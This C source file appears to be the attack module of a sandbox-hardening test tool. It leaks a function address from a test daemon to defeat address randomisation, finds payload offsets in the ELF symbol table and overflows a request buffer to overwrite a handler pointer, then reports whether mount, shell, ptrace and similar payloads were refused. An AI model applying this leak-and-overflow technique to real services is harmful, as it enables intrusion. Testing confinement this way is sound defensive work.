/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The exploit, as an attacker who owns a copy of the program would write it:
 *
 *  1. leak: DEBUG tells where one function was loaded, which undoes address randomisation;
 *  2. plan: the program's symbol table tells how far from there the wanted code lies;
 *  3. overflow: a GET whose argument fills request.arg and goes on into request.handler.
 *
 * Everything that an attack may leave behind (a mount, a file, a stopped process) is
 * removed here, also when the daemon was not able to.
 */
#include "telemetryctl.h"

#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <link.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define ARG_SIZE	48	/* request.arg, as seen in a disassembler */
#define LEAKED		"handle_debug"

/* KILLED: refused, and the daemon with it. */
enum outcome { REFUSED, PWNED, KILLED, TROUBLE };

/* What one attack works with. */
struct scene {
	const char *socket_path;
	const char *binary;
	char folder[ARG_SIZE];	/* ours, empty */
	char proof[ARG_SIZE];	/* a file in it, not there yet */
	pid_t victim;		/* a process that waits to be traced */
};

static const struct attack {
	const char *name;
	const char *payload;
} attacks[] = {
	{ "mount", "payload_mount" },
	{ "raw-socket", "payload_raw_socket" },
	{ "shell", "payload_shell" },
	{ "ptrace", "payload_ptrace" },
	{ "bpf", "payload_bpf" },
};

#define N_ATTACKS (sizeof(attacks) / sizeof(attacks[0]))

/* The program's image is ours to trust: it is the daemon that we attack, not its file. */
static bool find_symbol(const char *image, size_t size, const char *name, uintptr_t *ret_value)
{
	const ElfW(Ehdr) *elf = (const void *)image;
	const ElfW(Shdr) *sections = (const void *)(image + elf->e_shoff);

	if (size < sizeof(*elf) || memcmp(elf->e_ident, ELFMAG, SELFMAG) != 0 ||
	    elf->e_shoff + elf->e_shnum * sizeof(*sections) > size)
		return false;
	for (unsigned int i = 0; i < elf->e_shnum; i++) {
		const ElfW(Sym) *symbols = (const void *)(image + sections[i].sh_offset);
		const char *names;

		if (sections[i].sh_type != SHT_SYMTAB)
			continue;
		names = image + sections[sections[i].sh_link].sh_offset;
		for (size_t k = 0; k < sections[i].sh_size / sizeof(*symbols); k++) {
			if (strcmp(names + symbols[k].st_name, name) == 0) {
				*ret_value = symbols[k].st_value;
				return true;
			}
		}
	}
	return false;
}

/* How far the payload lies from the leaked function; 0 or -errno. */
static int find_distance(const char *binary, const char *payload, uintptr_t *ret_leaked,
			 uintptr_t *ret_distance)
{
	uintptr_t target;
	struct stat st;
	char *image;
	int fd = open(binary, O_RDONLY | O_CLOEXEC);
	bool found;

	if (fd < 0)
		return -errno;
	if (fstat(fd, &st) < 0 || st.st_size < (off_t)sizeof(ElfW(Ehdr))) {
		close(fd);
		return -ENOEXEC;
	}
	image = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
	close(fd);
	if (image == MAP_FAILED)
		return -errno;
	found = find_symbol(image, (size_t)st.st_size, LEAKED, ret_leaked) &&
		find_symbol(image, (size_t)st.st_size, payload, &target);
	munmap(image, (size_t)st.st_size);
	if (!found)
		return -ENOEXEC;
	*ret_distance = target - *ret_leaked;
	return 0;
}

/* -b, or what the daemon runs, or the file beside this one. */
static void find_binary(const struct scene *scene, int fd, char *ret_path, size_t size)
{
	char self[PATH_MAX] = "";
	char *slash;

	if (scene->binary) {
		snprintf(ret_path, size, "%s", scene->binary);
		return;
	}
	snprintf(ret_path, size, "/proc/%d/exe", (int)daemon_pid(fd));
	if (access(ret_path, R_OK) == 0)
		return;
	if (readlink("/proc/self/exe", self, sizeof(self) - 1) > 0 &&
	    (slash = strrchr(self, '/')) != NULL) {
		*slash = '\0';
		snprintf(ret_path, size, "%.*s/telemetryd", PATH_MAX - 16, self);
	}
}

/* Steps 1 and 2: where the payload is in the running daemon; 0 or -1 with answer saying why not. */
static int find_payload(const struct scene *scene, int fd, const char *payload, char *answer,
			uintptr_t *ret_address)
{
	char binary[PATH_MAX];
	uintptr_t leaked, expected = 0, distance = 0;
	const char *at;
	int r;

	r = daemon_ask(fd, answer, "DEBUG");
	if (r < 0 || (at = strstr(answer, "handler=0x")) == NULL) {
		snprintf(answer, ANSWER_SIZE, "no leak: %s", r < 0 ? strerror(-r) : "DEBUG is mute");
		return -1;
	}
	leaked = (uintptr_t)strtoull(at + strlen("handler="), NULL, 16);

	find_binary(scene, fd, binary, sizeof(binary));
	r = find_distance(binary, payload, &expected, &distance);
	if (r < 0 || (leaked ^ expected) & 0xfff) {
		snprintf(answer, ANSWER_SIZE, "%.200s: %s", binary,
			 r == -ENOEXEC ? "no such symbols (stripped?)" :
			 r < 0 ? strerror(-r) : "not the program that is running");
		return -1;
	}
	*ret_address = leaked + distance;
	return 0;
}

/* Step 3. All bytes are encoded, so neither NUL nor newline hurts. */
static int overflow(int fd, char *answer, const char *arg, uintptr_t address)
{
	unsigned char bytes[ARG_SIZE + sizeof(address)] = { 0 };
	char text[3 * sizeof(bytes) + 1];

	memcpy(bytes, arg, strnlen(arg, ARG_SIZE - 1));
	memcpy(bytes + ARG_SIZE, &address, sizeof(address));
	for (size_t i = 0; i < sizeof(bytes); i++)
		snprintf(text + 3 * i, 4, "%%%02x", bytes[i]);
	return daemon_ask(fd, answer, "GET %s", text);
}

/* The shell's output, which is the proof that it ran; it may still be running. */
static void read_proof(const struct scene *scene, char *detail)
{
	struct timespec moment = { 0, 20000000 };
	ssize_t n = 0;
	int fd;

	for (int i = 0; i < 50 && n <= 0; i++) {
		fd = open(scene->proof, O_RDONLY | O_CLOEXEC | O_NOFOLLOW);
		if (fd >= 0) {
			n = read(fd, detail, 200);
			close(fd);
		}
		if (n <= 0)
			nanosleep(&moment, NULL);
	}
	if (n > 0) {
		detail[n] = '\0';
		detail[strcspn(detail, "\n")] = '\0';
	}
}

/* Why a call failed although nobody refused it: then the attack proved nothing. */
static bool is_mishap(const char *why)
{
	static const int mishaps[] = { ENOENT, ESRCH, ENOMEM, EMFILE, ENODEV, EAFNOSUPPORT };

	for (size_t i = 0; i < sizeof(mishaps) / sizeof(mishaps[0]); i++) {
		if (strcmp(why, strerror(mishaps[i])) == 0)
			return true;
	}
	return false;
}

static enum outcome report(const char *name, enum outcome outcome, const char *detail)
{
	if (outcome == PWNED)
		printf("ATTACK %-12s PWNED   %s\n", name, detail);
	else
		printf("ATTACK %-12s %s (%s)\n", name, outcome == TROUBLE ? "failed " : "refused",
		       detail);
	fflush(stdout);
	return outcome;
}

/* Reads "PWNED what: detail" or "refused what: why". */
static enum outcome judge(const struct scene *scene, const char *name, int r, char *answer)
{
	char *detail = strstr(answer, ": ");

	if (r < 0 && !daemon_alive(scene->socket_path))
		return report(name, KILLED, "the daemon was killed");
	if (r < 0)
		return report(name, TROUBLE, strerror(-r));
	if (detail && strncmp(answer, "PWNED ", 6) == 0) {
		if (strcmp(name, "shell") == 0)
			read_proof(scene, detail + 2);
		return report(name, PWNED, detail + 2);
	}
	if (detail && strncmp(answer, "refused ", 8) == 0)
		return report(name, is_mishap(detail + 2) ? TROUBLE : REFUSED, detail + 2);
	return report(name, TROUBLE, answer);
}

static enum outcome run_attack(const struct scene *scene, const struct attack *a)
{
	char answer[ANSWER_SIZE], arg[ARG_SIZE];
	uintptr_t address;
	int fd, r;

	fd = daemon_connect(scene->socket_path);
	if (fd < 0)
		return report(a->name, TROUBLE, strerror(-fd));
	if (find_payload(scene, fd, a->payload, answer, &address) < 0) {
		close(fd);
		return report(a->name, TROUBLE, answer);
	}

	snprintf(arg, sizeof(arg), "%s", scene->folder);
	if (strcmp(a->name, "shell") == 0)
		snprintf(arg, sizeof(arg), "%s", scene->proof);
	else if (strcmp(a->name, "ptrace") == 0)
		snprintf(arg, sizeof(arg), "%d", (int)scene->victim);
	r = overflow(fd, answer, arg, address);
	close(fd);
	return judge(scene, a->name, r, answer);
}

/* A process that may be traced by anybody who is allowed to at all, and that dies with us. */
static pid_t start_victim(void)
{
	int ready[2];
	char byte;
	pid_t pid;

	if (pipe2(ready, O_CLOEXEC) < 0)
		return -errno;
	pid = fork();
	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
		close(ready[1]);
		for (;;)
			pause();
	}
	close(ready[1]);
	if (pid < 0)
		pid = -errno;
	(void)!read(ready[0], &byte, 1); /* ends when the child has closed its side */
	close(ready[0]);
	return pid;
}

static int scene_open(struct scene *scene)
{
	snprintf(scene->folder, sizeof(scene->folder), "/tmp/telemetryctl-XXXXXX");
	if (!mkdtemp(scene->folder))
		return -errno;
	chmod(scene->folder, 0777); /* the daemon may run as somebody else */
	snprintf(scene->proof, sizeof(scene->proof), "%.40s/proof", scene->folder);
	scene->victim = start_victim();
	if (scene->victim < 0) {
		rmdir(scene->folder);
		return scene->victim;
	}
	return 0;
}

static void scene_close(struct scene *scene)
{
	kill(scene->victim, SIGKILL);
	waitpid(scene->victim, NULL, 0);
	umount2(scene->folder, MNT_DETACH | UMOUNT_NOFOLLOW);
	unlink(scene->proof);
	if (rmdir(scene->folder) < 0)
		fprintf(stderr, "telemetryctl: %s: %s\n", scene->folder, strerror(errno));
}

/* One attack or all, until one of them kills the daemon. The exit status. */
static int run_attacks(const struct scene *scene, const char *name)
{
	bool found = false, pwned = false, trouble = false, killed = false;

	for (size_t i = 0; i < N_ATTACKS; i++) {
		enum outcome outcome;

		if (strcmp(name, "all") != 0 && strcmp(name, attacks[i].name) != 0)
			continue;
		found = true;
		if (killed)
			outcome = report(attacks[i].name, TROUBLE, "not tried, the daemon is gone");
		else
			outcome = run_attack(scene, &attacks[i]);
		killed |= outcome == KILLED;
		pwned |= outcome == PWNED;
		trouble |= outcome == TROUBLE;
	}
	if (!found)
		fprintf(stderr, "telemetryctl: %s: no such attack\n", name);
	return pwned ? 1 : trouble || !found ? 2 : 0;
}

int attack(const char *socket_path, const char *name, const char *binary)
{
	struct scene scene = { .socket_path = socket_path, .binary = binary };
	int r;

	if (!daemon_alive(socket_path)) {
		fprintf(stderr, "telemetryctl: nobody serves on %s\n", socket_path);
		return 2;
	}
	r = scene_open(&scene);
	if (r < 0) {
		fprintf(stderr, "telemetryctl: %s: %s\n", scene.folder, strerror(-r));
		return 2;
	}
	r = run_attacks(&scene, name);
	scene_close(&scene);
	return r;
}
